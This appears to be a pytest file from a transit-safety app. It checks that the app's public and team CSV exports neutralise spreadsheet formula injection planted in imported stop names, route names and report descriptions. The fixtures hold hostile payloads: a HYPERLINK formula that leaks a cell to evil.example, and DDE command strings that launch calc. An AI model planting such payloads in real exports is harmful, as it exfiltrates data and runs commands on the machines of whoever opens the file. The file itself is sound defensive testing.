"""Stop names from an imported feed and approved descriptions never reach a CSV as formulas."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from geoalchemy2.elements import WKTElement

from streetsafe.demo.seeding import SegmentRef, StopRef, new_report
from streetsafe.hotspots.formats import csv_cell
from streetsafe.models import Neighbourhood, ReportDescription, Route, Stop
from streetsafe.team.service import create_team
from streetsafe.transit.gtfs import import_gtfs

from .conftest import bearer

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "gtfs_no_shapes"
EVIL_NAMES = {
    "A": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "B": "+cmd|' /C calc'!A0",
    "C": "@SUM(1+1)*cmd|' /C calc'!A0",
}
ROUTE = "-9+cmd|' /C calc'!A0"
LATLON = {"A": (53.0, -1.0), "B": (53.0, -0.99), "C": (53.01, -0.99)}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def evil_feed(tmp_path, connection) -> int:
    """The small GTFS fixture with stop names that are spreadsheet formulas, imported."""
    folder = tmp_path / "evil"
    shutil.copytree(FIXTURE, folder)
    with (folder / "stops.txt").open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["stop_id", "stop_name", "stop_lat", "stop_lon"])
        for stop_id, (lat, lon) in {
            "A": (53.0, -1.0),
            "B": (53.0, -0.99),
            "C": (53.01, -0.99),
        }.items():
            writer.writerow([stop_id, EVIL_NAMES[stop_id], lat, lon])
    with (folder / "routes.txt").open("w", newline="") as out:
        csv.writer(out).writerows([["route_id", "route_short_name", "route_type"], ["R", ROUTE, 3]])
    import_gtfs(connection, folder, "evil")
    return connection.scalar(sa.text("SELECT id FROM feeds WHERE name = 'evil'"))


@pytest.fixture
def evil_reports(evil_feed, db_session) -> str:
    feed_id = evil_feed
    """Six reports at each evil stop, one with an approved formula description; a team's token."""
    hood = Neighbourhood(
        code="EVIL",
        name="Evil",
        geom=WKTElement(
            "MULTIPOLYGON(((-1.01 52.99, -0.98 52.99, -0.98 53.02, -1.01 53.02, -1.01 52.99)))",
            4326,
        ),
    )
    db_session.add(hood)
    db_session.flush()
    stops = {
        s.source_id: s for s in db_session.scalars(sa.select(Stop).where(Stop.feed_id == feed_id))
    }
    assert sorted(s.name for s in stops.values()) == sorted(EVIL_NAMES.values())
    route = db_session.scalar(sa.select(Route).where(Route.feed_id == feed_id))
    a, b = stops["A"], stops["B"]
    segment = SegmentRef(
        route.id, route.public_id, route.short_name, 0, a.public_id, a.name, b.public_id, b.name
    )
    reports = []
    for stop in stops.values():
        lat, lon = LATLON[stop.source_id]
        reports += [
            new_report(
                lon=lon, lat=lat, categories=["badly_lit"], resolutions=(7, 8, 9, 10),
                occurred_at=datetime(2026, 3, 7, 20, 30, tzinfo=UTC), context="at_stop",
                mode="bus", stop=StopRef(stop.id, stop.public_id, stop.name),
                neighbourhood_id=hood.id,
            )
            for _ in range(6)
        ]  # fmt: skip
    reports += [
        new_report(
            lon=-0.995, lat=53.0, categories=["followed"], resolutions=(7, 8, 9, 10),
            occurred_at=datetime(2026, 3, 8, 21, 0, tzinfo=UTC), context="on_vehicle",
            mode="bus", segment=segment, neighbourhood_id=hood.id,
        )
        for _ in range(6)
    ]  # fmt: skip
    db_session.add_all(reports)
    db_session.flush()
    first = reports[0].id
    text = "-2+3 people followed me"
    db_session.add(ReportDescription(report_id=first, body=text, scrubbed=text, status="approved"))
    token = create_team(db_session, "Evil watch", ["EVIL"])
    db_session.commit()
    return token


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _assert_neutral(body: str) -> None:
    cells = _cells(body)
    assert cells, "empty CSV"
    bad = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert bad == []


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/hotspots/stops?format=csv",
        "/api/v1/hotspots/route-segments?format=csv",
    ],
)
def test_public_csv_neutralises_formula_names(client, evil_reports, path) -> None:
    response = client.get(path)
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    _assert_neutral(body)
    expected = EVIL_NAMES["A"] if "stops" in path else ROUTE
    assert "'" + expected in _cells(body)


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/team/hotspots/stops?format=csv",
        "/api/v1/team/hotspots/route-segments?format=csv",
        "/api/v1/team/reports?format=csv",
    ],
)
def test_team_csv_neutralises_formula_names_and_descriptions(client, evil_reports, path) -> None:
    response = client.get(path, headers=bearer(evil_reports))
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    _assert_neutral(body)
    cells = _cells(body)
    if "reports" in path:
        assert "'-2+3 people followed me" in cells
        assert "'" + EVIL_NAMES["B"] in cells
    assert "'" + (ROUTE if "route" in path else EVIL_NAMES["C"]) in cells


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Stop 1 = main", "Stop 1 = main"),
        (-0.35, -0.35),
        (5, 5),
        (None, None),
    ],
)
def test_csv_cell(value, cell) -> None:
    assert csv_cell(value) == cell
